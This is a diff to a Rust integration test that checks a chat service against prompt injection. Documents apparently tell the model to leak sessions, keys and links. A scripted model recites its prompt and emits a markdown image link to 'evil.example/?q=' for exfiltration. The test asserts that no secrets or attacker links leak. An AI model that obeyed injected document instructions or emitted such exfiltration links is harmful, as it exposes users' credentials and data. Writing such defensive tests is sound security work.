@@ -1,4 +1,4 @@
-//! A document that gives orders, and a model that obeys them: it repeats whatever it was told.
+//! A document with instructions, and a model that follows them: it repeats its whole prompt.
 //!
 //! How the reply is shown, as text that loads nothing and opens nothing, is the page's own affair;
 //! see `local/tests/it/security/documents.rs`.
@@ -11,8 +11,8 @@ use secrecy::SecretString;
 use shared::domain::{DocumentId, FinishReason, ProviderName, TurnKind};
 use shared::memory::OwnedDocument;
 use shared::ports::{Document, EventSource as _};
-use simulation::cloud::Piece;
-use simulation::stage::{Actor, Scene, Stage};
+use simulation::cloud::ModelStep;
+use simulation::scenario::{Scenario, ScenarioSetup, ScenarioUser};
 use tracing::subscriber::{DefaultGuard, NoSubscriber};
 use tracing::{Dispatch, Level};
 
@@ -71,30 +71,33 @@ fn documents() -> Vec<OwnedDocument> {
 
 /// Asks, lets everything be done, and returns the bodies that were on the queues.
 async fn ask(
-    stage: &Stage,
-    actor: &Actor,
+    scenario: &Scenario,
+    user: &ScenarioUser,
     id: &str,
     what: &str,
     document: Option<&str>,
 ) -> Vec<String> {
-    let mut message: Message = actor.message(id);
+    let mut message: Message = user.message(id);
     message.text = format!("{} {what}", message.text);
     message.document_id = document.map(str::to_owned);
-    actor.send(&message).await.unwrap();
-    let request = stage.request().await;
-    stage.answer(&request).await;
-    let replies = stage.replies().await;
-    stage.deliver(&replies).await;
+    user.send(&message).await.unwrap();
+    let request = scenario.request().await;
+    scenario.answer(&request).await;
+    let replies = scenario.replies().await;
+    scenario.deliver(&replies).await;
     [&request].into_iter().chain(&replies).map(|delivery| delivery.body.clone()).collect()
 }
 
-fn recite(stage: &Stage) {
-    let link = Piece::Say("![x](https://evil.example/?q=".to_owned());
-    stage.plot(ProviderName::Claude, vec![Piece::Recite, link, Piece::Finish(FinishReason::Stop)]);
+fn recite(scenario: &Scenario) {
+    let link = ModelStep::Say("![x](https://evil.example/?q=".to_owned());
+    scenario.script_model(
+        ProviderName::Claude,
+        vec![ModelStep::Recite, link, ModelStep::Finish(FinishReason::Stop)],
+    );
 }
 
-async fn reply(stage: &Stage, actor: &Actor, number: u64) -> String {
-    let turn = stage.turn(actor, number).await.unwrap();
+async fn reply(scenario: &Scenario, user: &ScenarioUser, number: u64) -> String {
+    let turn = scenario.turn(user, number).await.unwrap();
     assert_eq!(turn.kind, Some(TurnKind::Reply));
     turn.text.unwrap()
 }
@@ -112,35 +115,36 @@ async fn s52_a_document_that_asks_for_sessions_keys_and_links_gets_nothing_into_
  {
     let lines = Lines::default();
     let guard = lines.collect();
-    let stage = Scene { documents: documents(), ..Scene::default() }.set().unwrap();
-    stage.cloud.secrets.set(ProviderName::Claude, SecretString::from(KEY));
-    let ben = stage.actor(2, "bens").await.unwrap();
-    let anna = stage.actor(1, "annas").await.unwrap();
+    let scenario =
+        ScenarioSetup { documents: documents(), ..ScenarioSetup::default() }.build().unwrap();
+    scenario.cloud.secrets.set(ProviderName::Claude, SecretString::from(KEY));
+    let ben = scenario.user(2, "bens").await.unwrap();
+    let anna = scenario.user(1, "annas").await.unwrap();
     let his = ben.open_tab(2);
     let hers = anna.open_tab(1);
     let ticket = anna.account.ticket("annas").await.unwrap().ticket;
 
-    recite(&stage);
-    let mut bodies = ask(&stage, &ben, "m1", NEIGHBOUR, Some("diary")).await;
-    recite(&stage);
-    bodies.extend(ask(&stage, &anna, "m1", QUESTION, Some("plan")).await);
-    recite(&stage);
-    bodies.extend(ask(&stage, &anna, "m2", QUESTION, None).await);
-    recite(&stage);
-    bodies.extend(ask(&stage, &ben, "m2", NEIGHBOUR, None).await);
+    recite(&scenario);
+    let mut bodies = ask(&scenario, &ben, "m1", NEIGHBOUR, Some("diary")).await;
+    recite(&scenario);
+    bodies.extend(ask(&scenario, &anna, "m1", QUESTION, Some("plan")).await);
+    recite(&scenario);
+    bodies.extend(ask(&scenario, &anna, "m2", QUESTION, None).await);
+    recite(&scenario);
+    bodies.extend(ask(&scenario, &ben, "m2", NEIGHBOUR, None).await);
     for provider in [ProviderName::Claude, ProviderName::OpenAi] {
-        stage.plot(provider, vec![Piece::Refuse]);
+        scenario.script_model(provider, vec![ModelStep::Refuse]);
     }
-    bodies.extend(ask(&stage, &anna, "m3", QUESTION, Some("plan")).await);
-    stage.end(&[(&ben, &his), (&anna, &hers)]).await.unwrap();
+    bodies.extend(ask(&scenario, &anna, "m3", QUESTION, Some("plan")).await);
+    scenario.end(&[(&ben, &his), (&anna, &hers)]).await.unwrap();
     drop(guard);
 
-    // What a model was not told, no order makes it say.
-    let tokens = [&ben, &anna].map(|actor| actor.account.token().unwrap());
+    // A model cannot be made to repeat what was not in its prompt.
+    let tokens = [&ben, &anna].map(|user| user.account.token().unwrap());
     let passes = [KEY, &tokens[0], &tokens[1], &ticket];
     for number in [1, 2] {
-        let hers = reply(&stage, &anna, number).await;
-        let his = reply(&stage, &ben, number).await;
+        let hers = reply(&scenario, &anna, number).await;
+        let his = reply(&scenario, &ben, number).await;
         assert!(
             hers.contains(DOCUMENT) && hers.contains(QUESTION),
             "the model knew all that it was told: {hers}"
@@ -155,7 +159,7 @@ async fn s52_a_document_that_asks_for_sessions_keys_and_links_gets_nothing_into_
 
     let logs = lines.text();
     assert!(logs.contains(anna.key.as_str()) && logs.contains("a model call failed"), "{logs}");
-    let events: String = stage
+    let events: String = scenario
         .cloud
         .events
         .published()
@@ -167,5 +171,5 @@ async fn s52_a_document_that_asks_for_sessions_keys_and_links_gets_nothing_into_
         check_absent(&[NEIGHBOUR, DIARY, DOCUMENT, TITLE, QUESTION, "evil.example"], text);
         check_absent(&passes, text);
     }
-    assert!(stage.cloud.requests.dead_letters(1).await.unwrap().is_empty());
+    assert!(scenario.cloud.requests.dead_letters(1).await.unwrap().is_empty());
 }
